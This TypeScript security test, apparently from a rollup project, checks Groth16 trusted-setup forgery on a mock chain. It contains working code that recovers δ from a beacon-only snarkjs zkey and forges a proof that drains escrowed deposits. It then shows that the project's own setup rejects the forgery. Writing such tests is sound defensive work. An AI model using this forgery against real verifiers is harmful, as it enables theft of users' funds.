/**
 * ATTACK 40: phase 2 must hold a contribution whose secret nobody kept.
 *
 * The attack (issue 12, item 1): δ of a zkey whose phase 2 is a beacon alone
 * is recomputable from the beacon parameters recorded in the zkey, and with γ
 * the G2 generator the proof A = α, B = β, C = −δ⁻¹·vk_x verifies for any
 * public input. Here the attacker's side uses only public data and snarkjs's
 * own functions (readMPCParams, rngFromBeaconParams, Fr.fromRng): it replays
 * every beacon record of the zkey and forges a batch that withdraws everything
 * queued from an empty tree (newRoot = 42).
 *
 *  - control: against a deliberately beacon-only zkey (made with snarkjs
 *    `zkey new` + `zkey beacon`, outside the pipeline, which refuses such
 *    keys) the recomputed δ matches the key, the contract accepts the forged
 *    batch and the withdrawal empties it — so the forgery really works;
 *  - the rollup circuit as the pipeline sets it up (secret contribution, then
 *    beacon): the same construction recomputes a δ that does not match, and
 *    the contract refuses the forged batch with INVALID_PROOF, nothing moved.
 */
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { pathToFileURL } from 'node:url'
import { NodeSigner, bigintToBytes, secretKeyFromSeed } from '@l2bench/core'
import { MockL1, Wallet } from '@l2bench/l1-mock'
import {
  type BatchBody,
  type CircuitParams,
  type Groth16Proof,
  L2Key,
  OP_WITHDRAW,
  RollupContract,
  SyncGroth16Verifier,
  type VerificationKey,
  buildRollupCircuit,
  compileCircuit,
  depositCall,
  encodeBatchCalldata,
  generateDevPtau,
  loadSnarkjs,
  proofToBytes,
  publicInputs,
  readPhase2,
  registerPayee,
  terminateCurve,
  verify,
} from '../src/index.ts'

const params: CircuitParams = { n: 1, d: 1, depth: 4, mode: 'sha' }
const DEPOSITS = [1_000_000_000n, 2_000_000_000n]
const STOLEN = 3_000_000_000n

/** snarkjs's internal modules, loaded from its installed sources (what an attacker would use). */
async function snarkjsInternals() {
  const req = createRequire(import.meta.url)
  const root = dirname(dirname(req.resolve('snarkjs'))) // …/snarkjs (main entry is build/main.cjs)
  const load = (p: string) => import(pathToFileURL(join(root, p)).href)
  const binPath = createRequire(join(root, 'package.json')).resolve('@iden3/binfileutils')
  const bin = await import(pathToFileURL(binPath).href)
  return {
    zkeyUtils: await load('src/zkey_utils.js'),
    misc: await load('src/misc.js'),
    curves: await load('src/curves.js'),
    binFileUtils: (bin.readBinFile !== undefined ? bin : bin.default) as { readBinFile(f: string, t: string, v: number): Promise<{ fd: { close(): Promise<void> }; sections: unknown }> },
  }
}

// biome-ignore lint/suspicious/noExplicitAny: ffjavascript's curve is untyped
type Curve = any

/**
 * The attacker: δ from everything public in the zkey. Each beacon record's key
 * is replayed from its beacon hash and iteration count; a secret
 * contribution's key is not in the file, so it cannot be included.
 */
async function deltaFromPublicData(zkeyPath: string): Promise<{ curve: Curve; delta: Uint8Array; matches: boolean; types: number[] }> {
  const { zkeyUtils, misc, curves, binFileUtils } = await snarkjsInternals()
  const { fd, sections } = await binFileUtils.readBinFile(zkeyPath, 'zkey', 2)
  const zkey = await zkeyUtils.readHeader(fd, sections)
  const curve: Curve = await curves.getCurveFromQ(zkey.q)
  const mpc = await zkeyUtils.readMPCParams(fd, curve, sections)
  await fd.close()
  let delta: Uint8Array = curve.Fr.one
  for (const c of mpc.contributions as { type: number; beaconHash: Uint8Array; numIterationsExp: number }[]) {
    if (c.type !== 1) continue
    const rng = await misc.rngFromBeaconParams(c.beaconHash, c.numIterationsExp)
    delta = curve.Fr.mul(delta, curve.Fr.fromRng(rng))
  }
  const matches: boolean = curve.G1.eq(curve.G1.timesFr(curve.G1.g, delta), zkey.vk_delta_1)
  return { curve, delta, matches, types: mpc.contributions.map((c: { type: number }) => c.type) }
}

/** A = α, B = β, C = −δ⁻¹·vk_x: verifies for any public inputs when γ = G2 and δ is right. */
function forgeProof(curve: Curve, vkey: VerificationKey, delta: Uint8Array, inputs: readonly bigint[]): Groth16Proof {
  const G1 = curve.G1
  assert.ok(curve.G2.eq(curve.G2.fromObject(vkey.vk_gamma_2.map((c) => c.map(BigInt))), curve.G2.g), 'γ is the G2 generator')
  const point = (xy: readonly string[]) => G1.fromObject(xy.map(BigInt))
  let vkx = point(vkey.IC[0] as string[])
  inputs.forEach((v, i) => {
    vkx = G1.add(vkx, G1.timesFr(point(vkey.IC[i + 1] as string[]), curve.Fr.e(v)))
  })
  const c = G1.toObject(G1.toAffine(G1.neg(G1.timesFr(vkx, curve.Fr.inv(delta))))) as bigint[]
  return { pi_a: vkey.vk_alpha_1, pi_b: vkey.vk_beta_2, pi_c: c.map(String), protocol: 'groth16', curve: 'bn128' }
}

let work: string
let verifier: SyncGroth16Verifier

before(async () => {
  work = mkdtempSync(join(tmpdir(), 'l2bench-forgery-'))
  verifier = new SyncGroth16Verifier()
  await verifier.ready()
})

after(async () => {
  await verifier?.close()
  await terminateCurve()
  rmSync(work, { recursive: true, force: true })
})

/** A chain with victims' deposits queued (3 gwei) and the attacker's payee; tries the forged batch. */
async function attack(vkey: VerificationKey, delta: { curve: Curve; delta: Uint8Array }) {
  const mock = new MockL1()
  const contract = mock.deploy(new RollupContract({ params, vkey, verifier }))
  const wallet = (seed: string) => new Wallet(new NodeSigner(secretKeyFromSeed(seed)), mock)
  const [victim, attacker] = [wallet('forgery-victim'), wallet('forgery-attacker')]
  for (const w of [victim, attacker]) mock.mint(w.address, 10n ** 21n)
  for (const [i, amount] of DEPOSITS.entries()) await victim.callOk(contract, depositCall(L2Key.fromSeed(`forgery-victim-${i}`).publicKey), { value: amount })
  const loot = wallet('forgery-loot').address // receives only: its balance is the take
  const payee = await registerPayee(attacker, contract, loot)
  // Withdraw all 3 gwei to the attacker from the empty tree, to a root nobody can open.
  const body: BatchBody = { newRoot: 42n, deposits: [], ops: [{ type: OP_WITHDRAW, from: 0, to: payee, amount: STOLEN }] }
  const domain = { chainId: mock.chainId, contract: contract.address }
  const inputs = publicInputs(params, domain, contract.genesisRoot, body)
  const proof = forgeProof(delta.curve, vkey, delta.delta, inputs)
  const receipt = await attacker.call(
    contract,
    { type: 'submitBatch', body: encodeBatchCalldata(params, body), proof: proofToBytes(proof), publicInputs: inputs.map((v) => bigintToBytes('pub', v, 32)) },
    { gasLimit: 2_000_000n },
  )
  const offChain = await verify(vkey, inputs.map(String), proof)
  if (receipt.status === 'success') {
    await attacker.callOk(contract, { type: 'withdraw', batch: 0n, position: 0, count: 1, payee: loot, amount: STOLEN, proof: [] })
  }
  return { receipt, offChain, stolen: mock.balanceOf(loot), escrow: mock.balanceOf(contract.address), root: await mock.read<bigint>(contract.address, 'root', []), genesis: contract.genesisRoot }
}

describe('ATTACK 40: δ must not be recomputable from the zkey', () => {
  it('control: a beacon-only zkey (snarkjs zkey new + zkey beacon) gives δ away, and the forged batch empties the contract', async () => {
    const snarkjs = await loadSnarkjs()
    const compiled = await compileCircuit({ source: new URL('./fixtures/one_public.circom', import.meta.url).pathname, cacheDir: join(work, 'cache') })
    const ptau = join(work, 'control.ptau')
    await generateDevPtau({ power: compiled.requiredPower, out: ptau, workers: 1 })
    const z0 = join(work, 'control_0.zkey')
    const z1 = join(work, 'control_beacon_only.zkey')
    assert.ok((await snarkjs.zKey.newZKey(compiled.r1cs, ptau, z0)) instanceof Uint8Array)
    assert.ok((await snarkjs.zKey.beacon(z0, z1, 'public beacon', 'c0ffee'.repeat(10), 10)) instanceof Uint8Array)
    const vkey = await snarkjs.zKey.exportVerificationKey(z1)
    assert.equal(vkey.nPublic, 1)

    const d = await deltaFromPublicData(z1)
    assert.deepEqual(d.types, [1], 'one beacon record, nothing else')
    assert.equal(d.matches, true, 'δ recomputed from the beacon parameters')
    const r = await attack(vkey, d)
    assert.equal(r.offChain, true, 'snarkjs verifies the forged proof')
    assert.equal(r.receipt.status, 'success', `the contract accepted the forged batch (${r.receipt.revertCode ?? ''})`)
    assert.equal(r.root, 42n)
    assert.equal(r.stolen, STOLEN)
    assert.equal(r.escrow, 0n, 'the victims’ deposits are gone')
  })

  it("the rollup circuit's setup (secret contribution + beacon): the same forgery is rejected by the contract, nothing moves", async () => {
    const circuit = await buildRollupCircuit(params)
    assert.deepEqual((await readPhase2(circuit.setup.zkey)).map((c) => c.type), ['contribution', 'beacon'])
    const d = await deltaFromPublicData(circuit.setup.zkey)
    assert.deepEqual(d.types, [0, 1])
    assert.equal(d.matches, false, 'the beacon alone does not give δ')
    const r = await attack(circuit.setup.vkey, d)
    assert.equal(r.offChain, false)
    assert.equal(r.receipt.status, 'reverted')
    assert.equal(r.receipt.revertCode, 'INVALID_PROOF', r.receipt.revertReason)
    assert.equal(r.stolen, 0n)
    assert.equal(r.root, r.genesis)
    assert.equal(r.escrow, STOLEN, 'the deposits are still escrowed')
  })
})
